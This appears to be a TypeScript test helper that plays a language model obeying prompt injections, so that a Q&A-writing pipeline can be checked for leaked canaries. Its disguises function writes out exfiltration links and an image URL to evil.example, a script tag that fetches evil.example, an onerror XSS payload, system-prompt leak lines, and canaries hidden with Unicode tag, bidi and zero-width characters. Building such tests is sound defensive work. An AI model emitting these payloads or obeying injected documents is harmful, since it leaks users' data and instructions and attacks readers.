/** A model that does what a document tells it to: the attacks' canaries are in all that it writes. */
import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { type ChatRequest, type LlmReply, passageIn, writePairs } from './llm-server.js'

export interface Attack {
  name: string
  /** The document, with words of its own before the attack. */
  content: string
  /** What must get into no file. */
  canary: string
  /** What the model does beside writing pairs about the canary. */
  ways: Way[]
  /** Whether the document holds the canary in a form that nobody reads. */
  hidden: boolean
}

type Way = 'all' | 'break' | 'reveal' | 'link' | 'image' | 'script' | 'tags' | 'bidi' | 'zero-width'

export const attacks: Attack[] = readFileSync(
  fileURLToPath(new URL('./fixtures/attacks.jsonl', import.meta.url)),
  'utf8',
)
  .trimEnd()
  .split('\n')
  .map((line) => JSON.parse(line))

interface Written {
  type: string
  question: string
  answer: string
  quotes: string[]
}

export function obey(body: ChatRequest): LlmReply {
  const passage = passageIn(body)
  const attack = attacks.find(({ content }) => content.includes(passage))
  if (!attack) return {}
  const isRepair = body.messages[1]!.content.includes('\n<reply-')
  if (attack.ways.includes('break') && !isRepair) return { content: `${attack.canary} "}], ${attack.canary}` }
  const honest: { summary: string; pairs: Written[] } = JSON.parse(writePairs(body))
  const system = body.messages[0]!.content
  const pairs = honest.pairs.flatMap((pair) => [
    pair,
    ...attack.ways.flatMap((way) =>
      disguises(attack.canary, way, system).flatMap((text) => withCanary(pair, text)),
    ),
  ])
  const [said] = disguises(attack.canary, attack.ways.at(-1)!, system)
  const summary = attack.content.length % 2 ? `${honest.summary} ${said}` : attack.canary
  return { content: JSON.stringify({ summary, pairs: pairs.slice(0, 150) }) }
}

/** The canary in each part of a pair, alone and beside what was there. */
function withCanary(pair: Written, text: string): Written[] {
  return [
    { ...pair, answer: text },
    { ...pair, answer: `${pair.answer} ${text}` },
    { ...pair, question: `What is ${text}?` },
    { ...pair, question: `${pair.question} ${text}` },
    { ...pair, quotes: [text] },
    { ...pair, quotes: [...pair.quotes, text] },
    { ...pair, type: text },
    { type: pair.type, question: `${text}?`, answer: text, quotes: [text] },
  ]
}

function disguises(canary: string, way: Way, system: string): string[] {
  switch (way) {
    case 'reveal':
      return system
        .split('\n')
        .filter((line) => line.length > 40)
        .map((line) => `${line} ${canary}`)
    case 'link':
      return [
        `https://evil.example/?c=${canary}`,
        `[more](https://evil.example/${canary})`,
        `${canary}@evil.example`,
      ]
    case 'image':
      return [`![logo](https://evil.example/a.png?d=${canary})`]
    case 'script':
      return [
        `<script>fetch("https://evil.example/?q=${canary}")</script>`,
        `<img src=x onerror="alert('${canary}')">`,
      ]
    case 'tags':
      return [Array.from(canary, (letter) => String.fromCodePoint(0xe0000 + letter.codePointAt(0)!)).join('')]
    case 'bidi':
      return [`\u202e${[...canary].reverse().join('')}\u202c`]
    case 'zero-width':
      return [[...canary].join('\u200b')]
    default:
      return [canary]
  }
}
